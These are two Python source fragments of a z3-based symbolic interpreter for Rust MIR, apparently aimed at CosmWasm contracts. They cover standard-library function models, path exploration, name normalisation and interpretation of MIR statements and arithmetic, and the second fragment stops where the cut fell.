    if s.s is None: raise Unsupported('drain of symbolic string')
    lo, hi, _ = bounds_of(r)
    b = s.s.encode()
    i = lo[0] if lo is not None else 0; j = (hi[0] + (1 if hi[1] else 0)) if hi is not None else len(b)
    if is_sym(i) or is_sym(j): raise Unsupported('drain with symbolic range')
    if i > j or j > len(b): raise PanicPath('String::drain range out of bounds')
    a[0].set(Str((b[:i] + b[j:]).decode()))
    return IterV([x for x in b[i:j]])


@model('core::char::methods::<impl char>::is_alphanumeric', 'std::char::methods::<impl char>::is_alphanumeric')
def _is_alnum(it, a, c): return chr(deref(a[0])).isalnum()
@model('core::char::methods::<impl char>::is_ascii_digit', 'core::char::methods::<impl char>::is_numeric')
def _is_digit(it, a, c): return chr(deref(a[0])).isdigit()
@model('core::char::methods::<impl char>::is_alphabetic')
def _is_alpha(it, a, c): return chr(deref(a[0])).isalpha()


@model('core::str::<impl str>::matches')
def _str_matches(it, a, c):
    s = sval(a[0])
    if s.s is None: raise Unsupported('matches on symbolic string')
    pat = deref(a[1]); out = []
    if isinstance(pat, (FnItem, Closure)):
        for ch in s.s:
            it._fnitem_ctx = c.fn
            if it.call_closure(pat, [ord(ch)]): out.append(Ref([Str(ch)], 0))
    elif isinstance(pat, int):
        out = [Ref([Str(chr(pat))], 0) for ch in s.s if ord(ch) == pat]
    elif isinstance(pat, Str) and pat.s:
        out = [Ref([Str(pat.s)], 0)] * s.s.count(pat.s)
    else: raise Unsupported('matches pattern %r' % (pat,))
    return IterV(out)


# ---------------------------------------------------------------- byte-string ordering ----------------
def _bytes_cmp(it, a, c):
    x, y = deref(a[0]), deref(a[1])
    def raw(v):
        v = deref(v)
        if isinstance(v, Str):
            if v.s is None: raise Unsupported('ordering of symbolic byte strings')
            return list(raw_bytes(v))
        items = seq(v)
        if any(is_sym(b) for b in items): raise Unsupported('ordering of symbolic bytes')
        return list(items)
    p, q = raw(x), raw(y)
    return Enum('std::cmp::Ordering', 'Less' if p < q else ('Equal' if p == q else 'Greater'), [])
MODELS['<[u8] as std::cmp::Ord>::cmp'] = _bytes_cmp
MODELS['<[T] as std::cmp::Ord>::cmp'] = _bytes_cmp


@model('core::slice::<impl [T]>::swap', 'std::slice::<impl [T]>::swap', 'std::vec::Vec::swap')
def _slice_swap(it, a, c):
    l = seq(a[0]); i, j = a[1], a[2]
    if is_sym(i): i = it.concretize_index(i, len(l))
    if is_sym(j): j = it.concretize_index(j, len(l))
    if i >= len(l) or j >= len(l): raise PanicPath('index out of bounds: swap(%d, %d) on len %d' % (i, j, len(l)))
    l[i], l[j] = l[j], l[i]
    return UNIT()


DEF_MODELS['core::slice::<impl [T]>::swap'] = _slice_swap      # any element type (e.g. [&[u8]]): looked up by the generic definition


@model('std::string::String::into_bytes', 'alloc::string::String::into_bytes')
def _string_into_bytes(it, a, c):
    x = deref(a[0])
    if isinstance(x, Str) and x.s is not None and not x.canon: return Str(x.s, canon=[x])        # an owned byte vector holding the text's bytes
    return x
