"""Symbolic interpreter for rustc MIR (text + driver side tables) over z3 integer terms.
Path exploration by re-execution with decision prefixes (functions are deterministic)."""
import re, time, hashlib
import z3

from .values import *
from .mirparse import Place, Fn, find_matching, _top, split_top

# ----------------------------------------------------------------------------------------------
# solver context / path explorer
# ----------------------------------------------------------------------------------------------

class Ctx:
    DIVVARS = {}      # global: (a.sexpr, b.sexpr) -> (q, r, defining constraint)

    def __init__(self, feas_timeout_ms=2000, seed=0):
        self.solver = z3.Solver(); self.solver.set('timeout', feas_timeout_ms)
        self.solver.set('random_seed', seed)
        self.work = [[]]; self.prefix = []; self.pos = 0
        self.base = []; self.pc = []; self.defs = {}
        self.nqueries = 0; self.qtime = 0.0; self.nunknown = 0
        self.syms = {}; self.fresh_n = 0
        self.log = []       # human readable decision log of the current path

    # -- symbols -----------------------------------------------------------------------------
    def sym(self, name, bits=None, lo=None, hi=None):
        """named symbolic integer (the same z3 constant on every path); range constraints go to the base condition."""
        if name not in self.syms:
            v = z3.Int(name); self.syms[name] = v
            if bits is not None: self.base += [v >= 0, v < 2 ** bits]
            if lo is not None: self.base.append(v >= lo)
            if hi is not None: self.base.append(v <= hi)
        return self.syms[name]

    def symbool(self, name):
        if name not in self.syms: self.syms[name] = z3.Bool(name)
        return self.syms[name]

    def fresh(self, prefix, bits=None):
        self.fresh_n += 1
        v = z3.Int('%s!%d' % (prefix, self.fresh_n))
        if bits is not None: self.pc += [v >= 0, v < 2 ** bits]
        return v

    def assume(self, c):
        """permanent assumption (part of the pre-state); goes to the base condition of every path."""
        if isinstance(c, bool):
            if not c: raise ValueError('assume(False)')
            return
        self.base.append(c)

    # -- exploration --------------------------------------------------------------------------
    def start(self, prefix):
        self.prefix = list(prefix); self.pos = 0; self.pc = []; self.defs = {}; self.fresh_n = 0; self.log = []

    def conds(self):
        return list(self.base) + list(self.pc) + list(self.defs.values())

    def feasible(self, cond):
        self.nqueries += 1; t = time.time()
        self.solver.push(); self.solver.add(*self.conds()); self.solver.add(cond)
        r = self.solver.check(); self.solver.pop(); self.qtime += time.time() - t
        if r == z3.unknown:
            self.nunknown += 1
            return True     # sound: explore the branch anyway
        return r == z3.sat

    def choose(self, conds, what=''):
        """conds: exhaustive alternatives (z3 Bool / python bool). returns chosen index, forking the others."""
        if all(isinstance(c, bool) for c in conds):
            return [i for i, c in enumerate(conds) if c][0]
        if self.pos < len(self.prefix):
            idx = self.prefix[self.pos]
        else:
            feas = []
            for i, c in enumerate(conds):
                if isinstance(c, bool):
                    if c: feas.append(i)
                    continue
                if self.feasible(c): feas.append(i)
            if not feas: raise PathPruned()
            idx = feas[0]
            for j in feas[1:]:
                self.work.append(self.prefix[:self.pos] + [j])
            self.prefix.append(idx)
        self.pos += 1
        c = conds[idx]
        if not isinstance(c, bool): self.pc.append(c)
        if what: self.log.append('%s:%d' % (what, idx))
        return idx

    def branch(self, cond, what=''):
        if isinstance(cond, bool): return cond
        c = z3.simplify(cond)
        if z3.is_true(c): return True
        if z3.is_false(c): return False
        return self.choose([c, z3.Not(c)], what) == 0

    # -- arithmetic helpers ---------------------------------------------------------------------
    def divmod(self, a, b):
        if not is_sym(a) and not is_sym(b):
            return a // b, a % b
        a = z3.simplify(zint(a)); b = z3.simplify(zint(b))
        if z3.is_int_value(a) and z3.is_int_value(b):
            return a.as_long() // b.as_long(), a.as_long() % b.as_long()
        key = (a.sexpr(), b.sexpr())
        ent = Ctx.DIVVARS.get(key)
        if ent is None:
            h = hashlib.md5(repr(key).encode()).hexdigest()[:10]
            q = z3.Int('q!' + h); r = z3.Int('r!' + h)
            d = z3.Implies(b > 0, z3.And(a == q * b + r, r >= 0, r < b))
            ent = (q, r, d); Ctx.DIVVARS[key] = ent
        self.defs[key] = ent[2]
        return ent[0], ent[1]

    def div(self, a, b): return self.divmod(a, b)[0]
    def rem(self, a, b): return self.divmod(a, b)[1]

    def isqrt(self, n):
        if not is_sym(n):
            import math
            return math.isqrt(n)
        n = z3.simplify(n)
        key = ('isqrt', n.sexpr())
        ent = Ctx.DIVVARS.get(key)
        if ent is None:
            h = hashlib.md5(repr(key).encode()).hexdigest()[:10]
            r = z3.Int('sqrt!' + h)
            ent = (r, None, z3.And(r >= 0, r * r <= n, (r + 1) * (r + 1) > n)); Ctx.DIVVARS[key] = ent
        self.defs[key] = ent[2]
        return ent[0]


# ----------------------------------------------------------------------------------------------
# model registry
# ----------------------------------------------------------------------------------------------
MODELS = {}        # normalised instance name -> fn(it, args, call)
DEF_MODELS = {}    # normalised def name (e.g. 'std::iter::Iterator::map') -> fn
FORCE_DEF = set()  # def names whose DEF_MODEL wins over an available body


def model(*names):
    def deco(f):
        for n in names: MODELS[n] = f
        return f
    return deco


def defmodel(*names, force=False):
    def deco(f):
        for n in names:
            DEF_MODELS[n] = f
            if force: FORCE_DEF.add(n)
        return f
    return deco


def strip_generics(n):
    """remove every generic argument list; keeps `<T as Trait>` qualifiers (with their own generics removed)."""
    out = ''; i = 0; N = len(n)
    while i < N:
        ch = n[i]
        if ch == '<':
            j = find_matching(n, i)
            inner = n[i + 1:j]
            if i == 0 or n[i - 1] in ' (,&[':           # qualified-self position: <T as Trait>
                t = _top(inner); k = t.find(' as ')
                if k >= 0:
                    out += '<%s as %s>' % (strip_generics(inner[:k]), strip_generics(inner[k + 4:]))
                else:
                    out += '<%s>' % strip_generics(inner)
            elif out.endswith('::'):
                if inner.startswith('impl '):           # path segment `<impl Trait for Type>`
                    out += '<%s>' % strip_generics(inner)
                else:
                    out = out[:-2]                      # turbofish ::<...>
            # else: plain generic args: dropped
            i = j + 1; continue
        out += ch; i += 1
    return out


_norm_cache = {}
def norm(n):
    r = _norm_cache.get(n)
    if r is None:
        r = strip_generics(n).replace("'_ ", '').replace('&mut ', '&')
        r = re.sub(r'^\w+::(core|std|alloc)::', r'\1::', r)                 # `<crate>::core::..` re-export paths
        r = re.sub(r'<impl \[[^\]]*\]>', '<impl [T]>', r)                  # inherent slice methods
        r = re.sub(r'^(core|alloc)::', 'std::', r) if r.startswith(('core::slice', 'core::str', 'alloc::')) and False else r
        _norm_cache[n] = r
    return r


class Call:
    __slots__ = ('inst', 'key', 'defn', 'dest_ty', 'fn', 'text')
    def __init__(self, inst, key, defn, dest_ty, fn, text):
        self.inst = inst; self.key = key; self.defn = defn; self.dest_ty = dest_ty; self.fn = fn; self.text = text


# ----------------------------------------------------------------------------------------------
# interpreter
# ----------------------------------------------------------------------------------------------
class Interp:
    def __init__(self, prog, ctx, world=None):
        self.prog = prog; self.ctx = ctx; self.world = world
        self.const_cache = {}
        self.calls = 0; self.missing = set(); self.encoded = set(); self.models_used = set()
        self.stubs = {}          # item name -> fn(it, args, call) replacing a real body (listed in evidence)
        self.loop_abs = {}       # item name -> {'header': 'bbN', 'havoc': {local: maker}, 'observe': [locals]}
        self.observed = {}
        self.unroll_limit = 40
        self.step_budget = 400000
        self.steps = 0
        self.depth = 0
        self.trace = None

    # ----- ADT helpers -----
    def adt(self, name):
        return self.prog.adts.get(name)

    def resolve_adt_name(self, name, crate):
        if name in self.prog.adts: return name
        if crate and (crate + '::' + name) in self.prog.adts: return crate + '::' + name
        return None

    def variant_of(self, path, crate):
        """path like 'a::b::Enum::Variant' -> (enum name, variant) if Enum is a known enum."""
        k = path.rfind('::')
        if k < 0: return None
        e, var = path[:k], path[k + 2:]
        full = self.resolve_adt_name(e, crate)
        if full is None: return None
        rec = self.prog.adts[full]
        if rec['kind'].lower() != 'enum': return None
        for v in rec['variants']:
            if v['name'].split('::')[-1] == var: return (full, var)
        return None

    def discr(self, v):
        rec = self.prog.adts.get(v.name)
        if rec is None:
            rec = BUILTIN_ENUMS.get(v.name)
            if rec is None: raise Unsupported('discriminant of unknown enum ' + v.name)
            return rec.index(v.variant)
        for x in rec['variants']:
            if x['name'].split('::')[-1] == v.variant: return int(x['discr'])
        raise Unsupported('variant %s of %s' % (v.variant, v.name))

    def variants(self, name):
        rec = self.prog.adts.get(name)
        if rec is None: return BUILTIN_ENUMS.get(name)
        return [x['name'].split('::')[-1] for x in rec['variants']]

    def fields_of(self, name, variant=None):
        rec = self.prog.adts.get(name)
        if rec is None: return None
        for x in rec['variants']:
            if variant is None or x['name'].split('::')[-1] == variant: return x['fields']
        return None

    def mk(self, name, **kw):
        """build a struct value by field name from the ADT table (so harnesses never hard-code positions)."""
        fs = self.fields_of(name)
        if fs is None: raise Unsupported('unknown struct ' + name)
        names = [f[0] for f in fs]
        extra = set(kw) - set(names)
        if extra: raise Unsupported('struct %s has no field(s) %s (has %s)' % (name, extra, names))
        missing = [n for n in names if n not in kw]
        if missing: raise Unsupported('struct %s: missing field(s) %s' % (name, missing))
        return Agg(name, [kw[n] for n in names])

    def mkv(self, name, variant, *pos, **kw):
        fs = self.fields_of(name, variant)
        if fs is None: raise Unsupported('unknown enum variant %s::%s' % (name, variant))
        if pos: return Enum(name, variant, list(pos))
        names = [f[0] for f in fs]
        if set(kw) != set(names): raise Unsupported('variant %s::%s fields %s != %s' % (name, variant, names, sorted(kw)))
        return Enum(name, variant, [kw[n] for n in names])

    def fld(self, v, fname):
        v = deref(v)
        fs = self.fields_of(v.name, v.variant if isinstance(v, Enum) else None)
        if fs is None: raise Unsupported('fld on unknown type ' + v.name)
        for i, f in enumerate(fs):
            if f[0] == fname: return v.fields[i]
        raise Unsupported('no field %s in %s' % (fname, v.name))

    def setfld(self, v, fname, x):
        v = deref(v)
        fs = self.fields_of(v.name, v.variant if isinstance(v, Enum) else None)
        for i, f in enumerate(fs):
            if f[0] == fname: v.fields[i] = x; return
        raise Unsupported('no field %s in %s' % (fname, v.name))

    # ----- places -----
    def slot(self, frame, place, fn=None):
        obj = frame[place.local]; key = 0
        for p in place.proj:
            v = obj[key]
            k = p[0]
            if k == 'deref':
                if isinstance(v, Ref): obj, key = v.obj, v.key
                elif isinstance(v, Agg) and v.name == 'Box': obj, key = v.fields, 0
                else: raise Unsupported('deref of %r' % (v,))
            elif k == 'field':
                if isinstance(v, (Agg, Enum, Closure)):
                    if p[1] >= len(v.fields): raise Unsupported('field %d of %r' % (p[1], v))
                    obj, key = v.fields, p[1]
                elif isinstance(v, VecV) and p[1] == 0:
                    pass   # peeking into Vec internals: not supported
                    raise Unsupported('field of Vec internals')
                else: raise Unsupported('field %d of %r' % (p[1], v))
            elif k == 'downcast':
                if isinstance(v, Enum) and v.variant != p[1]:
                    raise Unsupported('downcast %s on %r' % (p[1], v))
            elif k == 'index':
                idx = frame[p[1]][0]
                lst = v.items if isinstance(v, VecV) else v.fields
                if is_sym(idx):
                    idx = self.concretize_index(idx, len(lst))
                if idx >= len(lst) or idx < 0: raise PanicPath('index out of bounds')
                obj, key = lst, idx
            elif k == 'constindex':
                lst = v.items if isinstance(v, VecV) else v.fields
                i = p[1] if not p[2] else len(lst) - p[1]
                obj, key = lst, i
            else:
                raise Unsupported('projection %r' % (p,))
        return obj, key

    def concretize_index(self, idx, n):
        conds = [idx == i for i in range(n)] + [z3.Or(idx < 0, idx >= n)]
        k = self.ctx.choose(conds, 'index')
        if k == n: raise PanicPath('index out of bounds')
        return k

    def read(self, frame, place):
        o, k = self.slot(frame, place); return o[k]

    def write(self, frame, place, v):
        o, k = self.slot(frame, place); o[k] = v

    def operand(self, frame, op, fn):
        kind = op[0]
        if kind == 'move': return self.read(frame, op[1])
        if kind == 'copy': return dup(self.read(frame, op[1]))
        if kind == 'const': return self.const(op[1], fn)
        if kind == 'fnitem': return FnItem(op[1])
        raise Unsupported(op)

    # ----- constants -----
    def const(self, s, fn):
        s = s.strip()
        if s == 'true': return True
        if s == 'false': return False
        m = re.match(r'^(-?[\d_]+)_([iu](?:8|16|32|64|128|size))$', s)
        if m: return int(m.group(1).replace('_', ''))
        if s.startswith('"'):
            return Ref([Str(_unescape(s))], 0)
        if s == '()': return UNIT()
        if s.startswith("'"): return ord(_unescape('"' + s[1:-1] + '"'))
        if s.startswith('b"'):
            return Ref([Agg('array', list(_unescape(s[1:]).encode('latin1')))], 0)
        if s.startswith('ZeroSized: '):
            t = s[len('ZeroSized: '):]
            if t.startswith('{closure@'):
                dn = self.prog.closure_by_span(t)
                return Closure(dn, [], t)
            return FnItem(t)
        m = re.match(r'^(.*)::promoted\[(\d+)\]$', s)
        if m:
            idx = int(m.group(2))
            p = fn.promoted.get(idx) if fn is not None else None
            if p is None and fn is not None and getattr(fn, 'parent_fn', None) is not None:
                p = fn.parent_fn.promoted.get(idx)
            if p is None: raise Unsupported('promoted not found ' + s)
            key = (fn.name, idx)
            if key not in self.const_cache:
                self.const_cache[key] = self.run(p, [])
            return dup(self.const_cache[key])
        v = CONSTS.get(norm(s))
        if v is not None: return v(self) if callable(v) else v
        # named constant / static of a loaded crate
        for cand in (s, (fn.crate + '::' + s) if fn is not None else s, strip_generics(s)):
            if self.prog.has(cand):
                if cand not in self.const_cache:
                    f = self.prog.get(cand)
                    self.const_cache[cand] = self.run(f, [])
                return dup(self.const_cache[cand])
        ns = strip_generics(s)
        if ns == 'cw2::CONTRACT': return Agg('NS', ['contract_info'])          # cw2's own storage item (external crate constant)
        if ns.startswith('std::marker::PhantomData'): return UNIT()
        ev = self.variant_of(ns, fn.crate if fn is not None else '')
        if ev: return Enum(ev[0], ev[1], [])
        b = BUILTIN_VARIANTS.get(ns)
        if b: return Enum(b[0], b[1], [])
        full = self.resolve_adt_name(ns, fn.crate if fn is not None else '')
        if full is not None: return Agg(full, [])
        raise Unsupported('unknown constant ' + s)

    # ----- execution -----
    def run(self, fn, args):
        self.encoded.add(fn.name)
        self.depth += 1
        if self.depth > 120: raise Unsupported('call depth')
        frame = {l: [None] for l in fn.locals}
        if 0 not in frame: frame[0] = [None]
        for (l, _), a in zip(fn.params, args): frame[l] = [a]
        bb = 'bb0'
        la = self.loop_abs.get(fn.name); visited_header = False
        visits = {}
        blocks = fn.blocks
        while True:
            if la is not None and bb == la['header']:
                if visited_header:
                    if la.get('keep_back'): raise LoopBack(fn.name, {loc: dup(frame[loc][0]) for loc in la.get('back_observe', [])})
                    raise PathPruned()
                visited_header = True
                for loc, mk in la['havoc'].items(): frame[loc] = [mk(self)]
                self.observed[fn.name] = {loc: dup(frame[loc][0]) for loc in la.get('observe', [])}
            n = visits.get(bb, 0) + 1; visits[bb] = n
            if n > self.unroll_limit: raise BoundExceeded('%s %s visited %d times' % (fn.name, bb, n))
            self.steps += 1
            if self.steps > self.step_budget: raise Unsupported('step budget')
            stmts, t = blocks[bb]
            for st in stmts:
                if st[0] == 'assign':
                    self.write(frame, st[1], self.rvalue(frame, st[2], fn, st[1], bb))
                elif st[0] == 'setdiscr':
                    raise Unsupported('SetDiscriminant')
                elif st[0] == 'nop':
                    pass
                else:
                    raise Unsupported('statement %r' % (st,))
            k = t[0]
            if k == 'goto': bb = t[1]
            elif k == 'return':
                self.depth -= 1
                return frame[0][0]
            elif k == 'call':
                dest, callee, argops, targets = t[1], t[2], t[3], t[4]
                args_v = [self.operand(frame, a, fn) for a in argops]
                if isinstance(callee, tuple):     # indirect call through a local
                    fv = self.operand(frame, callee, fn)
                    r = self.call_closure(fv, args_v)
                else:
                    side = fn.calls.get(bb) if fn.calls else None
                    dest_ty = fn.locals.get(dest.local, '') if (dest is not None and not dest.proj) else ''
                    r = self.call(callee, side, args_v, fn, dest_ty)
                if 'return' not in targets: raise PanicPath('diverging call returned: ' + str(callee))
                if dest is not None: self.write(frame, dest, r)
                bb = targets['return']
            elif k == 'switch':
                v = self.operand(frame, t[1], fn)
                targets = t[2]
                if isinstance(v, bool): v = int(v)
                if not is_sym(v):
                    bb = targets.get(str(v), targets.get('otherwise'))
                    if bb is None: raise Unsupported('switch without target for %r' % (v,))
                else:
                    keys = [x for x in targets if x != 'otherwise']
                    if z3.is_bool(v):
                        conds = [v if int(x) == 1 else z3.Not(v) for x in keys]
                        if 'otherwise' in targets:
                            conds.append(z3.And([z3.Not(c) for c in conds]) if len(conds) > 1 else z3.Not(conds[0]))
                    else:
                        conds = [v == int(x) for x in keys]
                        if 'otherwise' in targets: conds.append(z3.And([v != int(x) for x in keys]))
                    conds = [z3.simplify(c) for c in conds]
                    conds = [False if z3.is_false(c) else (True if z3.is_true(c) else c) for c in conds]
                    idx = self.ctx.choose(conds, '%s.%s' % (fn.name.split('::')[-1], bb))
                    bb = targets[keys[idx]] if idx < len(keys) else targets['otherwise']
            elif k == 'drop': bb = t[2]['return']
            elif k == 'assert':
                c = self.operand(frame, t[1], fn)
                if t[2]: c = znot(c)
                if self.ctx.branch(c, 'assert'): bb = t[4]['success']
                else: raise PanicPath(_assert_msg(t[3]), fn.name)
            elif k == 'unreachable': raise PanicPath('unreachable reached', fn.name)
            else:
                raise Unsupported('terminator %r' % (t,))

    # ----- calls -----
    def call(self, callee_text, side, args, fn, dest_ty=''):
        self.calls += 1
        if side is not None and side.get('instance'):
            inst = side['instance']; defn = side.get('def') or inst; target = side.get('target')
        else:
            inst = callee_text; target = None
            defn = _def_of_text(callee_text)
            if fn is not None and not inst.startswith('<') and not self.prog.has(strip_generics(inst)) \
                    and self.prog.has(fn.crate + '::' + strip_generics(inst)):
                inst = fn.crate + '::' + inst
        key = norm(inst)
        c = Call(inst, key, norm(defn), dest_ty, fn, callee_text)
        if self.trace is not None: self.trace.append('  ' * self.depth + key)
        st = self.stubs.get(key)
        h = st if st is not None else MODELS.get(key)
        dm = DEF_MODELS.get(c.defn)
        if h is None and dm is not None and c.defn in FORCE_DEF: h = dm
        if h is not None:
            self.models_used.add(('stub:' if st is not None else '') + (key if h is not dm else c.defn))
            try:
                return h(self, args, c)
            except PanicPath as p:
                if not p.where: p.where = '%s -> %s' % (fn.name if fn is not None else '?', key)
                raise
        body = None
        for cand in (target, key, strip_generics(inst)):
            if cand and self.prog.has(cand):
                body = self.prog.get(cand); break
        if body is None and dm is None:
            alt = self.prog.find_norm(key)
            if alt: body = self.prog.get(alt)
        if body is not None and body.blocks:
            return self.run(body, args)
        if dm is not None:
            self.models_used.add(c.defn); return dm(self, args, c)
        # constructor functions of tuple structs / enum variants used as fn items
        ev = self.variant_of(strip_generics(inst), fn.crate if fn else '')
        if ev: return Enum(ev[0], ev[1], list(args))
        full = self.resolve_adt_name(strip_generics(inst), fn.crate if fn else '')
        if full and self.prog.adts[full]['kind'].lower() == 'struct': return Agg(full, list(args))
        self.missing.add(key)
        raise Unsupported('no model for %s  [def %s]' % (key, c.defn))

    def call_closure(self, clo, args):
        clo_v = deref(clo)
        if isinstance(clo_v, FnItem):
            return self.call(clo_v.name, None, list(args), self.cur_fn_for_fnitem(), '')
        if not isinstance(clo_v, Closure): raise Unsupported('call of non-closure %r' % (clo_v,))
        name = clo_v.defname or self.prog.closure_by_span(clo_v.span)
        f = self.prog.get(name) if name else None
        if f is None: raise Unsupported('closure body not found %s' % (clo_v.span,))
        p0 = f.params[0][1]
        selfarg = clo_v if not p0.startswith('&') else (clo if isinstance(clo, Ref) else Ref([clo_v], 0))
        return self.run(f, [selfarg] + list(args))

    def cur_fn_for_fnitem(self):
        return getattr(self, '_fnitem_ctx', None)

    # ----- rvalues -----
    def rvalue(self, frame, rv, fn, dest, bb):
        k = rv[0]
        if k == 'use': return self.operand(frame, rv[1], fn)
        if k == 'ref':
            o, key = self.slot(frame, rv[2]); return Ref(o, key)
        if k == 'discriminant':
            v = self.read(frame, rv[1])
            if not isinstance(v, Enum): raise Unsupported('discriminant of %r' % (v,))
            return self.discr(v)
        if k == 'binop':
            return self.binop(rv[1], self.operand(frame, rv[2], fn), self.operand(frame, rv[3], fn), fn, rv[2], rv[3])
        if k == 'unop':
            v = self.operand(frame, rv[2], fn)
            if rv[1] == 'Not':
                if isinstance(v, bool): return not v
                if is_sym(v) and z3.is_bool(v): return z3.Not(v)
                raise Unsupported('bitwise not')
            if rv[1] == 'Neg': return -v
            if rv[1] == 'PtrMetadata':
                x = deref(v)
                if isinstance(x, VecV): return len(x.items)
                if isinstance(x, Agg): return len(x.fields)
                if isinstance(x, Str) and x.s is not None: return len(x.s.encode())
            raise Unsupported(rv)
        if k == 'cast':
            v = self.operand(frame, rv[1], fn)
            ty = rv[2]; kind = rv[3]
            if kind.startswith('PointerCoercion') or kind in ('Transmute', 'PtrToPtr', 'FnPtrToPtr', 'PointerExposeProvenance', 'Subtype'):
                if kind == 'Transmute' and not isinstance(v, (Ref, Agg, Enum, VecV)) and ty in INTBITS: return v
                return v
            if kind == 'IntToInt':
                bits = INTBITS.get(ty)
                if bits is None: raise Unsupported(rv)
                if isinstance(v, bool): return int(v)
                if is_sym(v) and z3.is_bool(v): return z3.If(v, 1, 0)
                sty = self.operand_ty(fn, rv[1]); sb = INTBITS.get(sty)
                if sb is not None and sb <= bits and sty not in SIGNED and ty not in SIGNED: return v
                if sb is not None and sb < bits and sty not in SIGNED: return v
                if not is_sym(v):
                    r = v % (2 ** bits)
                    if ty in SIGNED and r >= 2 ** (bits - 1): r -= 2 ** bits
                    return r
                if ty in SIGNED: raise Unsupported('symbolic cast to signed')
                return self.ctx.rem(v, 2 ** bits)
            raise Unsupported(rv)
        if k == 'tuple': return Agg('tuple', [self.operand(frame, o, fn) for o in rv[1]])
        if k == 'array': return Agg('array', [self.operand(frame, o, fn) for o in rv[1]])
        if k == 'repeat':
            v = self.operand(frame, rv[1], fn)
            m = re.match(r'^(?:const )?(\d+)(?:_usize)?$', rv[2].strip())
            if not m: raise Unsupported(rv)
            return Agg('array', [dup(v) for _ in range(int(m.group(1)))])
        if k == 'closure':
            caps = [self.operand(frame, o, fn) for o in rv[2]]
            # which closure aggregate of this block is it?  (k-th in block order)
            kth = 0
            for st in fn.blocks[bb][0]:
                if st[0] == 'assign' and st[2][0] == 'closure':
                    if st[2] is rv: break
                    kth += 1
            rec = fn.closures.get((bb, kth)) if getattr(fn, 'closures', None) else None
            dn = rec['closure'] if rec else self.prog.closure_by_span(rv[1])
            if rec and rec['operands'] != len(caps):
                # the textual dump drops operands of disjoint-field captures; they are the consecutive temporaries
                if not rv[2]: raise Unsupported('closure captures not printed')
                last = rv[2][-1][1].local
                for extra in range(rec['operands'] - len(caps)):
                    caps.append(frame[last + 1 + extra][0])
            return Closure(dn, caps, rv[1])
        if k == 'adt':
            name = strip_generics(rv[1]); fields = [self.operand(frame, o, fn) for _, o in rv[2]]
            ev = self.variant_of(name, fn.crate)
            if ev: return Enum(ev[0], ev[1], fields)
            b = BUILTIN_VARIANTS.get(name)
            if b: return Enum(b[0], b[1], fields)
            full = self.resolve_adt_name(name, fn.crate)
            if full is not None and rv[3] == 'named':
                # order fields as declared (the printer already does, but be safe)
                decl = [f[0] for f in self.fields_of(full)]
                got = {n: v for (n, _), v in zip(rv[2], fields)}
                if set(decl) == set(got): fields = [got[n] for n in decl]
            return Agg(full or name, fields)
        if k == 'len':
            v = self.read(frame, rv[1]); return len(v.items if isinstance(v, VecV) else v.fields)
        if k == 'nullop':
            if rv[1] in ('UbChecks', 'ContractChecks'): return False
            if rv[1] == 'OverflowChecks': return True
        if k == 'shallowbox':
            raise Unsupported('ShallowInitBox')
        raise Unsupported(rv)

    def operand_ty(self, fn, op):
        if op[0] in ('move', 'copy'):
            pl = op[1]
            if not pl.proj: return fn.locals.get(pl.local, '')
            last = pl.proj[-1]
            if last[0] == 'field': return last[2]
            if last[0] == 'deref':
                inner = self.operand_ty(fn, (op[0], Place(pl.local, pl.proj[:-1])))
                m = re.match(r"^(?:&(?:'\w+ )?(?:mut )?|\*(?:const|mut) |std::boxed::Box<)(.*?)>?$", inner)
                if m: return m.group(1)
            return ''
        if op[0] == 'const':
            m = re.match(r'^(-?[\d_]+)_(\w+)$', op[1])
            if m: return m.group(2)
            if op[1] in ('true', 'false'): return 'bool'
        return ''

    def binop(self, op, a, b, fn, aop, bop=None):
        abool = isinstance(a, bool) or (is_sym(a) and z3.is_bool(a))
        bbool = isinstance(b, bool) or (is_sym(b) and z3.is_bool(b))
        if abool or bbool:
            if op == 'Eq': return a == b
            if op == 'Ne': return a != b
            if op == 'BitAnd': return zand(a, b)
            if op == 'BitOr': return zor(a, b)
            if op == 'BitXor': return a != b if not (is_sym(a) or is_sym(b)) else z3.Xor(zbool(a), zbool(b))
            raise Unsupported('bool binop ' + op)
        if op == 'Eq': return a == b
        if op == 'Ne': return a != b
        if op == 'Lt': return a < b
        if op == 'Le': return a <= b
        if op == 'Gt': return a > b
        if op == 'Ge': return a >= b
        ty = self.operand_ty(fn, aop); bits = INTBITS.get(ty)
        if bits is None and bop is not None:
            ty = self.operand_ty(fn, bop); bits = INTBITS.get(ty)
        if op in ('AddWithOverflow', 'SubWithOverflow', 'MulWithOverflow'):
            r = {'A': a + b, 'S': a - b, 'M': a * b}[op[0]]
            if bits is None: raise Unsupported('overflow op on unknown type ' + ty)
            lo, hi = (-(2 ** (bits - 1)), 2 ** (bits - 1)) if ty in SIGNED else (0, 2 ** bits)
            ov = z3.Or(r < lo, r >= hi) if is_sym(r) else (r < lo or r >= hi)
            return Agg('tuple', [r, ov])   # the wrapped value is never used when ov holds (an assert follows)
        if op in ('Add', 'Sub', 'Mul', 'AddUnchecked', 'SubUnchecked', 'MulUnchecked'):
            r = {'A': a + b, 'S': a - b, 'M': a * b}[op[0]]
            if bits is not None and not op.endswith('Unchecked'):
                # wrapping arithmetic (only reachable with overflow checks off for this operation)
                if not is_sym(r): return r % (2 ** bits) if ty not in SIGNED else r
                lo, hi = (0, 2 ** bits)
                if ty in SIGNED: return r
                if not self.ctx.branch(z3.And(r >= lo, r < hi), 'wrap'): raise Unsupported('wrapping arithmetic reached')
            return r
        if op == 'Div': return self.ctx.div(a, b)
        if op == 'Rem': return self.ctx.rem(a, b)
        if op in ('Shl', 'ShlUnchecked'):
            if is_sym(b): raise Unsupported('symbolic shift')
            r = a * (2 ** b)
            if bits is not None:
                if is_sym(r): return self.ctx.rem(r, 2 ** bits)
                return r % (2 ** bits)
            return r
        if op in ('Shr', 'ShrUnchecked'):
            if is_sym(b): raise Unsupported('symbolic shift')
            return self.ctx.div(a, 2 ** b)
        if op == 'BitAnd':
            if not is_sym(a) and not is_sym(b): return a & b
            if not is_sym(b) and (b + 1) & b == 0: return self.ctx.rem(a, b + 1)
            if not is_sym(a) and (a + 1) & a == 0: return self.ctx.rem(b, a + 1)
        if op == 'BitOr' and not is_sym(a) and not is_sym(b): return a | b
        if op == 'BitXor' and not is_sym(a) and not is_sym(b): return a ^ b
        if op == 'Cmp':
            if not is_sym(a) and not is_sym(b):
                return Enum('std::cmp::Ordering', 'Less' if a < b else ('Equal' if a == b else 'Greater'), [])
            i = self.ctx.choose([zint(a) < zint(b), zint(a) == zint(b), zint(a) > zint(b)], 'cmp')
            return Enum('std::cmp::Ordering', ['Less', 'Equal', 'Greater'][i], [])
        raise Unsupported('binop ' + op)


def _unescape(s):
